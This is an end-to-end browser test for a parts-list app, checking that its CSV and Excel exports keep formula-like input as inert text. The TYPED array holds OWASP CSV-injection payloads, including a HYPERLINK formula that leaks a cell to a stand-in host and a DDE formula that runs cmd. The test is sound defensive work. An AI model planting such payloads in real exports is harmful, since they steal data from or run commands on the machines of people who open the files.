/**
 * Exports that a spreadsheet opens as data, never as formulas (docs/behaviour.md, Out of the tool;
 * OWASP "CSV Injection"), in a real browser: what a customer typed and catalogue names that start
 * like a formula reach the CSV behind an apostrophe and the .xlsx as text; numbers stay numbers;
 * article numbers with a leading zero keep it, in the parts list's CSV and the search results'.
 */
import { strFromU8, unzipSync } from 'fflate';
import type { BrowserContext, Page } from 'playwright-core';
import readXlsxFile from 'read-excel-file/node';
import { DESKTOP, signIn } from './support/browser';
import { e2eEnvironment } from './support/environment';
import { csvRows, downloadFrom } from './support/exports';
import { keptList, openSeededList, seededArticle, seededEntry } from './support/parts-list-seed';
import { chooseLanguage } from './support/language';
import { searchFor } from './support/search';
import { DEMO } from '../support/demo-users';

const env = e2eEnvironment();
jest.setTimeout(90_000);

/** Each as typed on a line of the list (OWASP's examples); none is an article. */
const TYPED = ['=HYPERLINK("http://evil.example/?leak="&A1,"Klick")', "=cmd|' /C calc'!A0", '@SUM(1+1)', '+49 170 1234567', '-2+3', '\t=1+1'];
/** A catalogue name that starts like a formula. */
const HOSTILE_NAME = '=1+1 Sensor';

let context: BrowserContext;
let page: Page;
const actions = () => page.getByRole('group', { name: /Export and order|Exportieren und bestellen/ });

beforeAll(async () => {
  context = await env.browser.newContext({ viewport: DESKTOP, acceptDownloads: true });
  page = await context.newPage();
  await signIn(page, env.server.url, DEMO.muster.email);
  await page.waitForURL(`${env.server.url}/`);
}, 60_000);

afterAll(async () => { await context?.close(); });

describe('a parts list with formulas typed and in names', () => {
  beforeAll(async () => {
    const entries = [
      ...TYPED.map((typed, i) => seededEntry(i + 2, typed, 1, null)),
      seededEntry(8, '0828734', 3, seededArticle('0828734', { brand: 'Phoenix Contact', name: HOSTILE_NAME })),
    ];
    await openSeededList(page, env.server.url, keptList(entries));
    await page.locator('[data-testid="parts-list-table"] tr[data-line="8"]').waitFor();
  });

  it('CSV: every such cell starts with an apostrophe, the leading zero stays, numbers stay numbers', async () => {
    const [, ...rows] = csvRows(await downloadFrom(page, actions(), /Export CSV/), ',');
    expect(rows.slice(0, TYPED.length).map((row) => row[1])).toEqual(TYPED.map((typed) => `'${typed}`));
    const phoenix = rows[TYPED.length];
    expect([phoenix[1], phoenix[4], phoenix[5]]).toEqual(["'0828734", "'0828734", `'${HOSTILE_NAME}`]);
    // Line, quantity and prices are numbers, written as such.
    expect([phoenix[0], phoenix[7], phoenix[9], phoenix[10]]).toEqual(['8', '3', '270.64', '811.92']);
  });

  it('.xlsx: the same cells are text, no cell is a formula', async () => {
    const bytes = await downloadFrom(page, actions(), /Export Excel/);
    expect(strFromU8(unzipSync(new Uint8Array(bytes))['xl/worksheets/sheet1.xml'])).not.toMatch(/<f[ >]/);
    const [sheet] = await readXlsxFile(bytes);
    const rows = sheet.data.slice(1);
    // Text cells: the reader drops a text's leading white space (the tab), and runs nothing.
    expect(rows.slice(0, TYPED.length).map((row) => row[1])).toEqual(TYPED.map((typed) => typed.trimStart()));
    expect([rows[TYPED.length][1], rows[TYPED.length][4], rows[TYPED.length][5]]).toEqual(['0828734', '0828734', HOSTILE_NAME]);
  });
});

describe('the search results', () => {
  it('CSV in German: an article number with a leading zero keeps it', async () => {
    await page.goto(`${env.server.url}/`);
    await searchFor(page, '0828734');
    await chooseLanguage(page, 'DE');
    try {
      const [heading, ...rows] = csvRows(await downloadFrom(page, actions(), /CSV exportieren/), ';');
      expect(heading[1]).toBe('Artikelnummer');
      expect(rows.map((row) => row[1])).toContain("'0828734");
    } finally {
      await chooseLanguage(page, 'EN');
    }
  });
});
